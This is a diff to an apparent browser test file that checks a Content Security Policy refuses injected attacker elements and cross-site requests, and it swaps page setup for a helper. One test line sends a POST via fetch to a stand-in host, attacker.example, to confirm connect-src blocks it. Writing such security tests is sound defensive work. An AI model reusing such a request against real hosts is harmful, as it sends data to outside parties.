@@ -23,8 +23,7 @@ const ATTACKS: readonly (readonly [directive: string, tag: string, properties: R
 ];
 
 test.each(ATTACKS)("%s refuses an attacker's <%s> with %p", async (directive, tag, properties) => {
-  const page = await browser.newPage(DESKTOP);
-  await page.goto(address(TERMS));
+  const page = await browser.visit(TERMS, DESKTOP);
   const violated = await page.evaluate(
     ([name, attributes]) =>
       new Promise<string>((resolve) => {
@@ -49,8 +48,7 @@ test.each(ATTACKS)("%s refuses an attacker's <%s> with %p", async (directive, ta
 });
 
 test("connect-src refuses a request to another site", async () => {
-  const page = await browser.newPage(DESKTOP);
-  await page.goto(address(TERMS));
+  const page = await browser.visit(TERMS, DESKTOP);
   const refused = page.waitForEvent("console", (message) => message.text().includes("connect-src"));
   await page.evaluate(() => fetch("https://attacker.example/", { method: "POST" }).catch(() => undefined));
   await refused;
